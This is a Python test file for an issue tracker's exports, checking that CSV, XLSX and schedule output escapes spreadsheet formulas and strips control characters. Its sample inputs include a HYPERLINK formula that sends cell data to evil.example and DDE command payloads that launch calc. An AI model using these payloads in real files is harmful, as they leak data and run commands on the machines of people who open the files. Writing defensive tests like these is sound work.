"""Exports never carry a formula a spreadsheet would run, and XLSX holds any title."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tsuzuri.adapters.cli.main import main
from tsuzuri.interchange.cells import csv_cell, csv_text, csv_value, sheet_cell
from tsuzuri.interchange.schedule_csv import schedule_csv
from tsuzuri.model import Config, Wbs, WbsItem
from tsuzuri.planning.schedule import schedule
from tsuzuri.store import load

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_starting_like_a_formula_gets_a_leading_quote_and_reads_back(text):
    assert csv_cell(text) == "'" + text
    assert csv_value(csv_cell(text)) == text


@pytest.mark.parametrize("value", [-3, -0.5, 4, 1.5, "-3", "+2", "-0.25", "1e3", "普通の件名", "a=b", "", None])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert csv_cell(value) == ("" if value is None else str(value))


def test_csv_text_quotes_every_cell_of_every_row():
    rows = list(csv.reader(io.StringIO(csv_text([["=1", "x"], ["y", "@a"]])[1:])))
    assert rows == [["'=1", "x"], ["y", "'@a"]]


def test_sheet_cells_lose_what_xml_cannot_hold():
    assert sheet_cell("a\x1bb\x07c\x00d\ud800\ufffe\tok\n") == "abcd\tok\n"
    assert sheet_cell(3) == 3


def _hostile(tracker):
    (tracker / "issues/MIRA/MIRA-1.md").write_text(
        '---\ntitle: "=HYPERLINK(\\"http://evil.example\\",\\"x\\")"\ntype: task\nstatus: open\n---\n- 箇条書きの本文\n', encoding="utf-8")
    (tracker / "issues/MIRA/MIRA-2.md").write_text(
        '---\ntitle: "@SUM(1+1)"\ntype: task\nstatus: open\n---\n+1 から始まる\n', encoding="utf-8"
    )
    # a hand-written file may hold ESC and BEL in its body: the reader accepts them, a sheet cannot
    (tracker / "issues/MIRA/MIRA-3.md").write_bytes("---\ntitle: ベル\ntype: task\nstatus: open\n---\n色\x1b[31m付き\x07\n".encode())
    return tracker


def test_export_csv_and_backlog_csv_neutralize_formulas_and_import_gives_them_back(tracker, tmp_path, new_tracker):
    _hostile(tracker)
    out = tmp_path / "issues.csv"
    assert main(["export", "--format", "csv", "--out", str(out), "--root", str(tracker)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    cells = [c for r in rows[1:] for c in r]
    assert "'" + '=HYPERLINK("http://evil.example","x")' in cells and "'@SUM(1+1)" in cells
    assert any(c.startswith("'- 箇条書きの本文") for c in cells)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    empty = new_tracker(tmp_path / "empty")
    assert main(["import", "sheet", str(out), "--project", "MIRA", "--root", str(empty), "--apply"]) == 0
    issues = load(empty).tracker.issues
    assert issues["MIRA-1"].title == '=HYPERLINK("http://evil.example","x")' and issues["MIRA-1"].body.strip() == "- 箇条書きの本文"
    out = tmp_path / "backlog.csv"
    assert main(["export", "--format", "backlog-csv", "--out", str(out), "--root", str(tracker)]) == 0
    cells = [c for r in list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))[1:] for c in r]
    assert "'@SUM(1+1)" in cells and any(c.startswith("'+1 から始まる") for c in cells)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_xlsx_export_of_esc_and_bel_writes_a_workbook_with_text_cells(tracker, tmp_path):
    _hostile(tracker)
    out = tmp_path / "issues.xlsx"
    assert main(["export", "--format", "xlsx", "--out", str(out), "--root", str(tracker)]) == 0
    ws = load_workbook(out).active
    values = [c.value for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert "色[31m付き\n" in values
    formulas = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert formulas and all(c.data_type == "s" for c in formulas)


def test_the_site_issue_csv_and_schedule_csv_neutralize_formulas(tracker):
    from tsuzuri.site import build_files

    _hostile(tracker)
    files = {f.path: f.content for f in build_files(load(tracker).tracker, date(2026, 11, 25))}
    cells = [c for r in list(csv.reader(io.StringIO(files["issues.csv"].decode("utf-8")[1:])))[1:] for c in r]
    assert "'@SUM(1+1)" in cells and "'" + '=HYPERLINK("http://evil.example","x")' in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    wbs = Wbs("MIRA", "wbs/MIRA.yml", (WbsItem("1", "=cmd|' /C calc'!A0", duration=3),), start=date(2026, 6, 1))
    rows = list(csv.reader(io.StringIO(schedule_csv(schedule(wbs, Config(), {}, date(2026, 6, 2)), "ja")[1:])))
    assert rows[1][1] == "'=cmd|' /C calc'!A0"
